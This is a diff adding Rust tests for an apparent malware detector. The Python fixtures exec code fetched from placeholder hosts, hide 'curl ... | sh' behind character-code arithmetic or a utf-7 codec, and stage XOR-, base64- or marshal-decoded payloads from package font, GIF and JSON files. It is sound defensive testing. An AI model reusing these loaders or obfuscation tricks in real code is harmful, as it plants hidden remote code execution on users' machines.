@@ -243,3 +243,490 @@ fn sinks_inside_the_arguments_of_unremarkable_calls() {
     );
     assert!(d.iter().any(|x| x.contains("subprocess.run")), "{d:?}");
 }
+
+fn has(d: &[String], kind: &str, text: &str) -> bool {
+    d.iter()
+        .any(|x| x.starts_with(&format!("{kind}:")) && x.contains(text))
+}
+
+// Flows through storage: data written to a file and read back, or run, in one scope.
+
+#[test]
+fn decoded_data_staged_through_a_temp_file_then_executed() {
+    let src = r#"
+import base64, os, tempfile
+BLOB = "cHJpbnQoJ2hlbGxvJyk="
+def _stage():
+    data = base64.b64decode(BLOB)
+    tmp = os.path.join(tempfile.gettempdir(), "cache_" + str(os.getpid()))
+    with open(tmp, "wb") as out:
+        out.write(data)
+    with open(tmp, "rb") as src:
+        code = src.read()
+    exec(code)
+_stage()
+"#;
+    let d = details(src);
+    assert!(has(&d, "DecodeExecute", "exec()"), "{d:?}");
+}
+
+#[test]
+fn a_read_of_another_file_after_a_decoded_write_stays_dynamic() {
+    let src = r#"
+import base64
+def render(icon):
+    with open("icon.png", "wb") as out:
+        out.write(base64.b64decode(icon))
+    with open("settings.py") as f:
+        exec(f.read())
+"#;
+    let d = details(src);
+    assert!(!d.iter().any(|x| x.starts_with("DecodeExecute")), "{d:?}");
+    assert!(has(&d, "DynamicExecute", "exec()"), "{d:?}");
+}
+
+#[test]
+fn decoded_data_written_then_loaded_or_run() {
+    // A library decrypted by a local XOR helper, written out and loaded; a script
+    // written to a temp file and given to the interpreter.
+    let src = r#"
+import ctypes, os, subprocess, sys, tempfile
+def unmask(buf, k=0x41):
+    return bytes(c ^ k for c in buf)
+def load(blob):
+    lib = os.path.join(tempfile.gettempdir(), "helper.so")
+    with open(lib, "wb") as fh:
+        fh.write(unmask(blob))
+    ctypes.CDLL(lib)
+def stage():
+    fd, script = tempfile.mkstemp(suffix=".py")
+    with os.fdopen(fd, "w") as fh:
+        fh.write(bytes(b ^ 7 for b in [110, 106, 119, 104, 117, 115, 39, 104, 116, 13, 104, 116, 41, 116, 126, 116, 115, 98, 106, 47, 32, 110, 99, 32, 46]).decode())
+    subprocess.run([sys.executable, script])
+"#;
+    let d = details(src);
+    assert!(
+        has(&d, "DecodeExecute", "loaded with ctypes.CDLL()"),
+        "{d:?}"
+    );
+    assert!(
+        has(&d, "DecodeExecute", "run with subprocess.run()"),
+        "{d:?}"
+    );
+    assert!(has(&d, "DecodeExecute", "helper.so"), "{d:?}");
+    // The script's text is folded (b ^ 7 over constants) and analysed as the code run.
+    assert!(
+        has(
+            &d,
+            "ProcessSpawn",
+            "in the decoded payload: os.system(): id"
+        ),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn decoded_write_and_an_unrelated_command_stay_apart() {
+    let src = r#"
+import base64, subprocess
+def export(doc):
+    with open("report.pdf", "wb") as fh:
+        fh.write(base64.b64decode(doc))
+    subprocess.run(["git", "status"])
+"#;
+    let d = details(src);
+    assert!(!d.iter().any(|x| x.starts_with("DecodeExecute")), "{d:?}");
+}
+
+// XOR decoders: helpers, loops, comprehensions.
+
+#[test]
+fn xor_helper_and_xor_loop_are_decoders() {
+    let src = r#"
+import base64
+KEY = b"q7"
+def _x(data, key):
+    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))
+exec(_x(base64.b64decode(PAYLOAD), KEY))
+def unscramble(data):
+    out = bytearray()
+    for i in range(len(data)):
+        out.append(data[i] ^ 0x5A)
+    return out
+eval(unscramble(STUFF).decode())
+"#;
+    let d = details(src);
+    assert_eq!(
+        d.iter().filter(|x| x.starts_with("DecodeExecute")).count(),
+        2,
+        "{d:?}"
+    );
+}
+
+#[test]
+fn websocket_masking_is_not_execution() {
+    let src = r#"
+import os
+def mask(payload, key):
+    return bytes(b ^ key[i % 4] for i, b in enumerate(payload))
+def send(sock, payload):
+    key = os.urandom(4)
+    sock.sendall(key + mask(payload, key))
+"#;
+    let k = kinds(src);
+    assert!(
+        !k.contains(&K::DecodeExecute) && !k.contains(&K::SecretExfiltration),
+        "{:?}",
+        details(src)
+    );
+}
+
+#[test]
+fn compression_and_marshal_decoders_reach_execution() {
+    let src = r#"
+import marshal, zlib, lzma, types, base64, codecs
+exec(marshal.loads(zlib.decompress(base64.b64decode(A))))
+f = types.FunctionType(marshal.loads(lzma.decompress(B)), globals())
+eval(codecs.decode(C, "rot13"))
+exec(compile(bytes.fromhex(D), "<x>", "exec"))
+"#;
+    let d = details(src);
+    for sink in ["exec()", "FunctionType()", "eval()", "compile()"] {
+        assert!(has(&d, "DecodeExecute", sink), "{sink}: {d:?}");
+    }
+}
+
+#[test]
+fn pickle_of_local_data_is_not_a_download_but_a_decoded_blob_is_a_payload() {
+    let local = r#"
+import pickle, base64
+with open("model.pkl", "rb") as f:
+    model = pickle.loads(f.read())
+def receive(message):
+    return pickle.loads(base64.b64decode(message["body"]))
+"#;
+    let k = kinds(local);
+    assert!(
+        !k.contains(&K::DownloadExecute) && !k.contains(&K::DecodeExecute),
+        "{:?}",
+        details(local)
+    );
+    // A response pickled and unpickled again (a round-trip test) is local data.
+    let round_trip =
+        "import pickle, requests\nr = requests.get(URL)\nr2 = pickle.loads(pickle.dumps(r))\n";
+    assert!(
+        !kinds(round_trip).contains(&K::DownloadExecute),
+        "{:?}",
+        details(round_trip)
+    );
+    let blob = "import pickle, base64\nobj = pickle.loads(base64.b64decode('gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))\n";
+    assert!(
+        kinds(blob).contains(&K::DecodeExecute),
+        "{:?}",
+        details(blob)
+    );
+}
+
+// Values returned by functions of the file.
+
+#[test]
+fn return_values_of_local_functions_carry_taint_and_constants() {
+    let src = r#"
+import os, requests
+def fetch():
+    r = requests.get("http://198.51.100.7/stage")
+    return r.text
+def name():
+    return "sys" + "tem"
+def run():
+    exec(fetch())
+    getattr(os, name())("id")
+"#;
+    let d = details(src);
+    assert!(has(&d, "DownloadExecute", "exec()"), "{d:?}");
+    assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
+}
+
+#[test]
+fn parameters_hide_module_names() {
+    let src = "import os\ncmd = 'ls -l'\ndef run(cmd):\n    os.system(cmd)\n";
+    let d = details(src);
+    assert!(has(&d, "ProcessSpawn", "built at run time"), "{d:?}");
+}
+
+// Text built from character codes.
+
+#[test]
+fn chr_arithmetic_and_joins_fold_to_their_text() {
+    // Each builds the command "curl x|sh" its own way.
+    let cases = [
+        "''.join(chr(c - 3) for c in [102, 120, 117, 111, 35, 123, 127, 118, 107])",
+        "''.join(map(chr, [99, 117, 114, 108, 32, 120, 124, 115, 104]))",
+        "''.join([chr(c ^ 1) for c in [98, 116, 115, 109, 33, 121, 125, 114, 105]])",
+        "chr(0x63)+chr(117)+chr(100+14)+chr(108)+chr(32)+chr(ord('x'))+chr(124)+chr(115)+chr(52*2)",
+        "bytes([99, 117, 114, 108, 32, 120, 124, 115, 104]).decode()",
+        "''.join(reversed('hs|x lruc'))",
+        "''.join(map(lambda n: chr(n + 1), [98, 116, 113, 107, 31, 119, 123, 114, 103]))",
+    ];
+    for expr in cases {
+        let src = format!("import os\nc = {expr}\nos.system(c)\n");
+        let d = details(&src);
+        assert!(
+            has(&d, "ProcessSpawn", "os.system(): curl x|sh"),
+            "{expr}: {d:?}"
+        );
+    }
+    // A key bound to a name is folded too.
+    let src = "import os\nK = 0x20\ncodes = [67, 85, 82, 76]\nos.system(''.join(chr(c ^ K) for c in codes))\n";
+    assert!(
+        has(&details(src), "ProcessSpawn", "os.system(): curl"),
+        "{:?}",
+        details(src)
+    );
+}
+
+#[test]
+fn sinks_reached_through_assembled_names() {
+    let src = r#"
+import importlib
+getattr(__import__('o' + 's'), 'sys' + 'tem')('id')
+__builtins__.__dict__['ex' + 'ec'](compile(X, 'f', 'exec'))
+globals()['__builtins__'].eval(Y)
+m = importlib.import_module(''.join(map(chr, [115, 117, 98, 112, 114, 111, 99, 101, 115, 115])))
+m.call(['uname'])
+"#;
+    let d = details(src);
+    assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
+    assert!(has(&d, "DynamicExecute", "exec()"), "{d:?}");
+    assert!(has(&d, "DynamicExecute", "eval()"), "{d:?}");
+    assert!(has(&d, "ProcessSpawn", "subprocess.call(): uname"), "{d:?}");
+}
+
+// Payloads in files shipped with the package.
+
+#[test]
+fn payload_decoded_from_a_package_data_file() {
+    let src = r#"
+import os, base64, json, pkgutil
+from importlib import resources
+HERE = os.path.dirname(os.path.abspath(__file__))
+def _glyphs():
+    raw = resources.files(__package__).joinpath("fonts", "icons.woff").read_bytes()
+    exec(bytes(b ^ 0x33 for b in raw[64:]))
+def _theme():
+    theme = json.loads(pkgutil.get_data(__name__, "data/theme.json"))
+    exec(base64.b64decode(theme["init"]))
+with open(os.path.join(HERE, "assets", "banner.gif"), "rb") as fh:
+    exec(fh.read()[-900:].translate(bytes(range(255, -1, -1))))
+"#;
+    let d = details(src);
+    assert!(
+        d.iter()
+            .filter(|x| x.starts_with("DecodeExecute") && x.contains("package"))
+            .count()
+            >= 2,
+        "{d:?}"
+    );
+}
+
+#[test]
+fn version_file_read_by_setup_is_not_a_payload() {
+    let src = r#"
+import os
+here = os.path.abspath(os.path.dirname(__file__))
+about = {}
+with open(os.path.join(here, "pkg", "__version__.py")) as f:
+    exec(f.read(), about)
+"#;
+    let k = kinds(src);
+    assert!(!k.contains(&K::DecodeExecute), "{:?}", details(src));
+}
+
+// Source codecs.
+
+#[test]
+fn unusual_source_codecs_are_decoded_and_analysed() {
+    let utf7 =
+        "# coding: utf-7\nimport os\n# note +AAo-os.system('curl http://203.0.113.9/x +AHw- sh')\n";
+    let d = details(utf7);
+    assert!(has(&d, "Obfuscation", "'utf-7'"), "{d:?}");
+    assert!(has(&d, "ProcessSpawn", "codec decodes it"), "{d:?}");
+
+    let escaped = "# -*- coding: unicode_escape -*-\n\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x0a\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x69\\x64\\x27\\x29\n";
+    let d = details(escaped);
+    assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
+    // The declaration is reported once, not again inside the decoded code.
+    assert_eq!(
+        d.iter()
+            .filter(|x| x.contains("declares the source codec"))
+            .count(),
+        1,
+        "{d:?}"
+    );
+
+    let rot = "# coding: rot13\nvzcbeg bf\nbf.flfgrz('vq')\n";
+    assert!(
+        has(&details(rot), "ProcessSpawn", "os.system()"),
+        "{:?}",
+        details(rot)
+    );
+
+    // A codec the package registers itself, its body base64.
+    let own = "# -*- coding: pkg_b64 -*-\naW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo=\n";
+    let d = details(own);
+    assert!(has(&d, "Obfuscation", "'pkg_b64'"), "{d:?}");
+    assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
+}
+
+#[test]
+fn ordinary_source_encodings_stay_quiet() {
+    for codec in [
+        "utf-8",
+        "latin-1",
+        "iso-8859-15",
+        "cp1252",
+        "UTF8",
+        "ascii",
+        "euc-jp",
+    ] {
+        let src = format!("# -*- coding: {codec} -*-\nx = 'a + b'\n");
+        assert!(kinds(&src).is_empty(), "{codec}: {:?}", details(&src));
+    }
+}
+
+#[test]
+fn constant_code_hidden_from_reading_reaches_execution() {
+    let src = r#"
+import os
+exec("')di'(metsys.so ;so tropmi"[::-1])
+os.system(''.join(chr(c) for c in [105, 100]))
+_ns = vars(__import__("builtins"))
+_ns["ex" "ec"](__import__("urllib.request", fromlist=["x"]).urlopen(U).read())
+"#;
+    let d = details(src);
+    assert!(has(&d, "DecodeExecute", "reaches exec()"), "{d:?}");
+    assert!(
+        has(
+            &d,
+            "ProcessSpawn",
+            "in the decoded payload: os.system(): id"
+        ),
+        "{d:?}"
+    );
+    assert!(
+        has(&d, "DecodeExecute", "os.system() runs a command hidden"),
+        "{d:?}"
+    );
+    assert!(has(&d, "DownloadExecute", "exec()"), "{d:?}");
+    // Plain constant code is analysed, not called hidden.
+    let plain = "exec('import os\\nos.system(\"id\")')\n";
+    let d = details(plain);
+    assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
+    assert!(!d.iter().any(|x| x.starts_with("DecodeExecute")), "{d:?}");
+}
+
+#[test]
+fn a_run_before_a_download_is_written_or_of_another_file_is_not_its_execution() {
+    let src = r#"
+import subprocess, urllib.request
+def fetch(url):
+    subprocess.run(["git", "fetch"])
+    data = urllib.request.urlopen(url).read()
+    with open("archive.zip", "wb") as f:
+        f.write(data)
+    subprocess.run(["ninja"], cwd="build")
+"#;
+    assert!(
+        !kinds(src).contains(&K::DownloadExecute),
+        "{:?}",
+        details(src)
+    );
+    let src = r#"
+import os, subprocess, urllib.request
+def fetch(url):
+    data = urllib.request.urlopen(url).read()
+    with open("tool.bin", "wb") as f:
+        f.write(data)
+    os.chmod("tool.bin", 0o755)
+    subprocess.run(["./tool.bin", "--quiet"])
+"#;
+    let d = details(src);
+    assert!(has(&d, "DownloadExecute", "made executable"), "{d:?}");
+    assert!(
+        has(&d, "DownloadExecute", "run with subprocess.run()"),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn inline_code_given_to_the_interpreter_is_analysed() {
+    let src = r#"
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import zlib, base64; exec(zlib.decompress(base64.b64decode(Z)))"])
+subprocess.run(["python3", "-c", "import os; os.system('id')"])
+subprocess.run(["git", "-c", "user.name=x", "commit"])
+"#;
+    let d = details(src);
+    assert!(
+        has(
+            &d,
+            "DecodeExecute",
+            "in the decoded payload: decoded data reaches exec()"
+        ),
+        "{d:?}"
+    );
+    assert!(
+        has(
+            &d,
+            "ProcessSpawn",
+            "in the decoded payload: os.system(): id"
+        ),
+        "{d:?}"
+    );
+    // `git -c` is not an interpreter: only the two payloads above are analysed.
+    assert_eq!(
+        d.iter()
+            .filter(|x| x.contains("in the decoded payload"))
+            .count(),
+        2,
+        "{d:?}"
+    );
+}
+
+#[test]
+fn restricting_permissions_of_decoded_output_is_not_making_it_executable() {
+    let src = r#"
+import base64, os
+def save(body, outfile):
+    with open(outfile, "wb") as fp:
+        fp.write(base64.b64decode(body))
+    os.chmod(outfile, 0o600)
+"#;
+    assert!(
+        !kinds(src).contains(&K::DecodeExecute),
+        "{:?}",
+        details(src)
+    );
+    let src = src.replace("0o600", "0o755");
+    assert!(
+        kinds(&src).contains(&K::DecodeExecute),
+        "{:?}",
+        details(&src)
+    );
+}
+
+#[test]
+fn a_client_sending_its_own_token_is_not_exfiltration() {
+    let src = r#"
+import os, requests
+def token():
+    return os.environ.get("SERVICE_API_TOKEN")
+def get(path):
+    return requests.get("https://api.example.invalid/" + path, headers={"Authorization": token()}).json()
+"#;
+    assert!(
+        !kinds(src).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(src)
+    );
+}
